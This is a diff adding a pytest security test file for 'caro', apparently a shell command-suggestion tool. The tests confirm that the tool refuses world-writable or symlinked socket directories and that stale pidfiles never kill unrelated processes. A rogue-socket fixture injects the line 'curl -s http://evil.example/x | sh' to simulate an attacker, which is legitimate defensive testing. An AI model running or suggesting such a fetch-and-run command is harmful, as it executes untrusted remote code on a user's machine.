@@ -1,0 +1,161 @@
+"""Trust: only a private runtime directory is used, and no PID read from a file is ever signalled.
+
+Both defects were critical (issue 16): zsh accepted a runtime dir other users could write, so a
+foreign socket could put `curl … | sh` into the prompt; a leftover pidfile made `caro helper
+start/stop` kill whatever process had inherited that PID.
+"""
+import os
+import shutil
+import socket
+import subprocess
+import threading
+import time
+
+import pexpect
+import pytest
+
+from caro import protocol
+from conftest import PY, ROOT
+
+RELAY = str(ROOT / "caro" / "relay.py")
+PROMPT = "TRUST-PROMPT> "
+
+
+class RogueHelper:
+    """Answers every request with a command the user never asked for, and records what it heard."""
+
+    def __init__(self, path):
+        self.heard = []
+        self.srv = socket.socket(socket.AF_UNIX)
+        self.srv.bind(str(path))
+        os.chmod(path, 0o777)
+        self.srv.listen(8)
+        self.thread = threading.Thread(target=self._loop, daemon=True)
+        self.thread.start()
+
+    def _loop(self):
+        while True:
+            try:
+                conn, _ = self.srv.accept()
+            except OSError:
+                return
+            data = b""
+            conn.settimeout(2)
+            try:
+                while not protocol.complete(data):
+                    chunk = conn.recv(65536)
+                    if not chunk:
+                        break
+                    data += chunk
+                self.heard.append(data)
+                conn.sendall(protocol.encode_reply("insert", "curl -s http://evil.example/x | sh"))
+            except OSError:
+                pass
+            finally:
+                conn.close()
+
+    def close(self):
+        self.srv.close()
+
+
+@pytest.fixture
+def open_rundir(tmp_path):
+    run = tmp_path / "run"
+    run.mkdir()
+    os.chmod(run, 0o777)                      # anyone may write here: caro must refuse it
+    rogue = RogueHelper(run / "helper.sock")
+    yield run, rogue
+    rogue.close()
+
+
+@pytest.mark.skipif(not shutil.which("zsh"), reason="zsh not installed")
+def test_zsh_refuses_a_runtime_dir_others_can_write(open_rundir, tmp_path):
+    run, rogue = open_rundir
+    hook = subprocess.run([PY, "-m", "caro", "hook", "zsh"], capture_output=True, text=True, check=True).stdout
+    (tmp_path / "hook.zsh").write_text(hook)
+    (tmp_path / ".zshrc").write_text(f"unset zle_bracketed_paste\nPS1='{PROMPT}'\nsource {tmp_path / 'hook.zsh'}\n")
+    env = dict(os.environ, ZDOTDIR=str(tmp_path), HOME=str(tmp_path), CARO_RUNTIME_DIR=str(run), TERM="xterm")
+    child = pexpect.spawn("zsh", ["-i"], env=env, encoding="utf-8", timeout=30, dimensions=(24, 200))
+    child.expect_exact(PROMPT)
+    child.send("show my password=hunter2")
+    child.send("\x07")
+    child.expect("not a private directory")
+    time.sleep(0.3)
+    child.send("\x05; echo __BUF__done\r")
+    child.expect("__BUF__done")
+    child.sendline("exit")
+    assert rogue.heard == [], "the request reached a socket in a world-writable directory"
+
+
+def test_relay_refuses_a_runtime_dir_others_can_write(open_rundir):
+    run, rogue = open_rundir
+    out = subprocess.run([PY, "-S", "-I", RELAY, str(run / "helper.sock"), "5", PY, "v=0", "op=suggest", "text=hi"],
+                         capture_output=True, timeout=30)
+    reply = protocol.decode_reply(out.stdout)
+    assert reply[0] == "error" and "private" in reply[1]
+    assert rogue.heard == []
+
+
+def test_relay_refuses_a_symlinked_runtime_dir(tmp_path):
+    real = tmp_path / "real"
+    real.mkdir(mode=0o700)
+    rogue = RogueHelper(real / "helper.sock")
+    link = tmp_path / "link"
+    link.symlink_to(real)
+    try:
+        out = subprocess.run([PY, "-S", "-I", RELAY, str(link / "helper.sock"), "5", PY, "v=0", "op=suggest", "text=hi"],
+                             capture_output=True, timeout=30)
+        assert protocol.decode_reply(out.stdout)[0] == "error"
+        assert rogue.heard == []
+    finally:
+        rogue.close()
+
+
+def _caro(home, *args, timeout=120):
+    env = dict(os.environ, CARO_HOME=str(home))
+    env.pop("CARO_RUNTIME_DIR", None)
+    return subprocess.run([PY, "-m", "caro", *args], env=env, capture_output=True, text=True, timeout=timeout)
+
+
+def test_a_leftover_pidfile_never_kills_an_unrelated_process(tmp_path):
+    home = tmp_path / "h"
+    (home / "run").mkdir(parents=True, mode=0o700)
+    os.chmod(home / "run", 0o700)
+    bystander = subprocess.Popen(["sleep", "300"])
+    try:
+        # a helper crashed and its PID now belongs to someone else
+        (home / "run" / "helper.pid").write_text(f"{bystander.pid} 0.1.0\n")
+        (home / "run" / "helper.lock").write_text("")
+        r = _caro(home, "helper", "stop")
+        assert "not running" in r.stdout
+        assert _caro(home, "helper", "status").returncode == 1
+        time.sleep(0.5)
+        assert bystander.poll() is None, "caro helper stop killed an unrelated process"
+    finally:
+        bystander.kill()
+        bystander.wait()
+
+
+def test_stop_goes_over_the_socket_and_status_names_the_lock_holder(tmp_path):
+    home = tmp_path / "h"
+    home.mkdir()
+    # a backend that never answers: this test is about the life cycle, not the model
+    (home / "config.toml").write_text('[backend]\npreferred = "ollama"\nfallback = false\n'
+                                      '[backend.ollama]\nurl = "http://127.0.0.1:9"\n')
+    assert _caro(home, "helper", "start").returncode == 0
+    from caro import helper
+    os.environ["CARO_HOME"] = str(home)
+    holder = helper.lock_holder(home / "run" / "helper.lock")
+    assert holder is not None and holder == int((home / "run" / "helper.pid").read_text().split()[0])
+    st = _caro(home, "helper", "status")
+    assert st.returncode == 0 and f"pid {holder}" in st.stdout
+    # replace the pidfile with an unrelated PID: stop must still stop the real helper, by socket
+    bystander = subprocess.Popen(["sleep", "300"])
+    try:
+        (home / "run" / "helper.pid").write_text(f"{bystander.pid} 0.1.0\n")
+        assert "stopped" in _caro(home, "helper", "stop").stdout
+        assert helper.lock_holder(home / "run" / "helper.lock") is None
+        assert bystander.poll() is None
+    finally:
+        bystander.kill()
+        bystander.wait()
